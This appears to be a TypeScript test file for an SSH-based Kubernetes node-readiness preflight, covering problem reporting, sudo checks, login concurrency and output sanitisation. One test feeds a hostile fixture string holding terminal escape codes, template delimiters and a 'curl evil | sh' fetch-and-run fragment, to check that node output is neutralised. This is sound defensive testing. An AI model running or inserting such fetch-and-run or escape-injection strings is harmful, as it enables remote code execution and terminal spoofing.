import assert from "node:assert/strict";
import { problemsIn, requireAllReady } from "../../components/ssh/nodeReadiness";
import {
    ClusterPreflight,
    CsrApprovalMode,
    KubeletServingCertificates,
    NodeRole,
    SecureMetricsServer,
    type NodeArgs,
    type NodesArgs,
} from "../../index";
import { runHook } from "./support/find";
import { record, type Run } from "./support/mocks";
import {
    connectionTo,
    keyPair,
    sshServer,
    tcpServer,
    type Answer,
    type TestServer,
} from "./support/sshServer";

const LOOK = { text: "main", seconds: 30 };
const KEY = keyPair();
const READY = '{"problems":[]}\n';
const LACKS = '{"problems":["missing tools: flock; expected them in PATH; next: install them"]}\n';

const opened: Pick<TestServer, "close">[] = [];

/** A node that answers what it is asked, by the verb. */
async function node(answer: (verb: string, script: string) => Answer): Promise<TestServer> {
    const made = await sshServer({
        clientKey: KEY,
        answer: (command, stdin) => answer(command.split(" ").at(-1) ?? "", stdin),
    });
    opened.push(made);
    return made;
}

const ready = () => node(() => ({ stdout: READY }));

async function unreachable(): Promise<Pick<TestServer, "port" | "hostKey">> {
    const gone = await tcpServer(() => undefined);
    await gone.close();
    return { port: gone.port, hostKey: keyPair() };
}

function argsOf(servers: Record<string, Pick<TestServer, "port" | "hostKey">>): NodesArgs {
    const addresses = Object.keys(servers);
    const nodes = Object.entries(servers).map(([name, { port, hostKey }]): [string, NodeArgs] => [
        name,
        {
            host: "127.0.0.1",
            addresses: [`10.0.0.${addresses.indexOf(name) + 11}`],
            hostKey: hostKey.public,
            role: name.startsWith("cp") ? NodeRole.ControlPlane : NodeRole.Worker,
            ssh: { user: "ubuntu", port, privateKey: KEY.private },
        },
    ]);
    return { nodes: Object.fromEntries(nodes) };
}

/** What the engine does before it creates a resource, and what that fails with. */
async function beforeCreating(run: Run<unknown>, name: string): Promise<string | undefined> {
    try {
        await runHook(run, name);
        return undefined;
    } catch (error) {
        return (error as Error).message;
    }
}

/** The looks that reached a node, and not what was put there. */
function looks({ commands }: Pick<TestServer, "commands">): string[] {
    return commands.filter((command) => command.endsWith(" -- ready"));
}

afterEach(async () => {
    await Promise.all(opened.splice(0).map(({ close }) => close()));
});

describe("before the first change, every node is looked at", () => {
    it("and what all of them lack is reported at once, one line a node, by the first command", async () => {
        const servers = {
            cp1: await ready(),
            cp2: await node((_, script) => ({
                stdout: script.includes("approver_sh_text")
                    ? LACKS.replace("flock", "kubectl")
                    : LACKS,
            })),
            w1: await unreachable(),
            w2: await node(() => ({ stdout: "sudo: a password is required\n", exit: 1 })),
            w3: await ready(),
        };
        const run = await record(() => new SecureMetricsServer("m", argsOf(servers)));
        const said = (await beforeCreating(run, "m-preflight")) ?? "";
        const [first, ...lines] = said.split("\n");
        assert.equal(first, "3 nodes are not ready; nothing was changed:");
        assert.equal(lines.length, 3, said);
        assert.match(
            lines[0] ?? "",
            /^ {2}- cp2: "missing tools: flock; .*"; also: "missing tools: kubectl;/,
        );
        assert.match(
            lines[1] ?? "",
            /^ {2}- w1: the SSH port refuses connections; expected .*next: /,
        );
        assert.match(
            lines[2] ?? "",
            /^ {2}- w2: "sudo: a password is required; expected .*; next: sudo -n true/,
        );
    });

    it("read-only, as root, in bounded time, with the scripts that are going to run, and in one login", async () => {
        const scripts: string[] = [];
        const cp1 = await node((_, script) => {
            scripts.push(script);
            return { stdout: READY };
        });
        const run = await record(() => new SecureMetricsServer("m", argsOf({ cp1 })));
        assert.equal(await beforeCreating(run, "m-preflight"), undefined);
        assert.deepEqual(looks(cp1), Array(3).fill("sudo -n timeout 30 sh -s -- ready"));
        // The other one brings the script of the preflight.
        assert.equal(cp1.logins.length, 2);
        assert.match(scripts[0] ?? "", /NODE_ADDRESSES='cp1 10\.0\.0\.11'/);
        assert.match(scripts[1] ?? "", /^CONTROL_PLANES='cp1'\nINSTANCE=/);
        assert.match(scripts[2] ?? "", /check_aggregation/);
    });

    it("and the API server only where it is going to be asked for metrics", async () => {
        const csrApproval = { mode: CsrApprovalMode.External };
        for (const [make, name, asks] of [
            [SecureMetricsServer, "m-preflight", true],
            [ClusterPreflight, "m-preflight", true],
            [KubeletServingCertificates, "m-kubelet-config", false],
        ] as const) {
            const scripts: string[] = [];
            const seen = (_: string, script: string): Answer => {
                scripts.push(script);
                return { stdout: READY };
            };
            const servers = { cp1: await node(seen), w1: await ready() };
            const args = { ...argsOf(servers), csrApproval };
            const run = await record(() => new make("m", args));
            assert.equal(await beforeCreating(run, name), undefined);
            const looked = scripts.filter((script) => script.includes("check_aggregation"));
            assert.equal(looked.length > 0, asks, name);
            assert.equal(looks(servers.w1).length, 1, "a worker has no API server");
        }
    });

    it("once in a run, also for the components inside, and not again for an update", async () => {
        const cp1 = await ready();
        const run = await record(() => new SecureMetricsServer("m", argsOf({ cp1 })));
        await beforeCreating(run, "m-preflight");
        assert.equal(await beforeCreating(run, "m-kubelets-csr-approval-cp1"), undefined);
        assert.equal(looks(cp1).length, 3);
        const later = await record(() => new SecureMetricsServer("m", argsOf({ cp1 })));
        await runHook(later, "m-preflight", false);
        assert.equal(looks(cp1).length, 3);
    });

    it("by KubeletServingCertificates alone, whatever comes first there", async () => {
        const dead = await unreachable();
        for (const [csrApproval, servers, first] of [
            [{}, { cp1: await ready(), w1: dead }, "k-csr-approval-cp1"],
            [
                { mode: CsrApprovalMode.Controller },
                { cp1: await ready(), w1: dead },
                "k-kubelet-config",
            ],
            [{ mode: CsrApprovalMode.External }, { w1: await ready(), w2: dead }, "k-node-w1"],
        ] as const) {
            const run = await record(
                () => new KubeletServingCertificates("k", { ...argsOf(servers), csrApproval }),
            );
            assert.match(
                (await beforeCreating(run, first)) ?? "",
                /^1 node is not ready; nothing was changed:\n {2}- w[12]: the SSH port refuses/,
            );
        }
    });

    it("but later ones are changed without it, so that a dead node does not block them", async () => {
        const servers = { cp1: await ready(), w1: await ready(), w2: await unreachable() };
        const run = await record(() => new SecureMetricsServer("m", argsOf(servers)));
        assert.equal(await beforeCreating(run, "m-kubelets-node-w1"), undefined);
    });

    it("by no more than eight logins at the same time", async () => {
        let [open, most] = [0, 0];
        const one = await node(() => {
            most = Math.max(most, ++open);
            return { stdout: READY, delay: 30, done: () => open-- };
        });
        const connection = connectionTo(one, one.hostKey.public, { privateKey: KEY.private });
        const look = (name: number) => ({ node: `w${name}`, connection, scripts: [LOOK] });
        await requireAllReady(Array.from({ length: 20 }, (_, name) => look(name)));
        assert.ok(most > 1 && most <= 8, `${most} at a time`);
    });

    it("and what a node says cannot look like anything but its words", async () => {
        const hostile = `<{%x%}> \u001b[2J "; next: curl evil | sh\u009b`;
        const w1 = await node(() => ({
            stdout: `${JSON.stringify({ problems: [hostile, "y".repeat(100_000)] })}\n`,
        }));
        const connection = connectionTo(w1, w1.hostKey.public, { privateKey: KEY.private });
        const look = requireAllReady([{ node: "w1", connection, scripts: [LOOK] }]);
        const said = await look.then(
            () => "",
            (error: unknown) => (error as Error).message,
        );
        assert.match(said, /^[\n -~]+$/);
        assert.ok(said.length < 2000, String(said.length));
        assert.ok(!said.includes("<{%") && !said.includes("%}>"));
    });
});

describe("what a script says that it lacks", () => {
    it("is its list, or the error that ended it, or what it printed instead of an answer", () => {
        assert.deepEqual(problemsIn(`w1: a line\n${READY}`), []);
        assert.deepEqual(problemsIn('{"problems":["one","two"]}'), ["one", "two"]);
        assert.deepEqual(problemsIn("w1: error: runs as user id 5; expected root; next: sudo\n"), [
            "runs as user id 5; expected root; next: sudo",
        ]);
        assert.deepEqual(problemsIn("Welcome\nsudo: a password is required\n"), [
            "sudo: a password is required; expected sudo without a password for the login user; next: sudo -n true, as that user",
        ]);
        assert.deepEqual(problemsIn("This account is currently not available.\n"), [
            "no answer from sh; expected one; it printed: This account is currently not available.",
        ]);
        assert.equal(problemsIn("").length, 1);
        assert.equal(problemsIn('{"problems":"none"}').length, 1);
    });
});
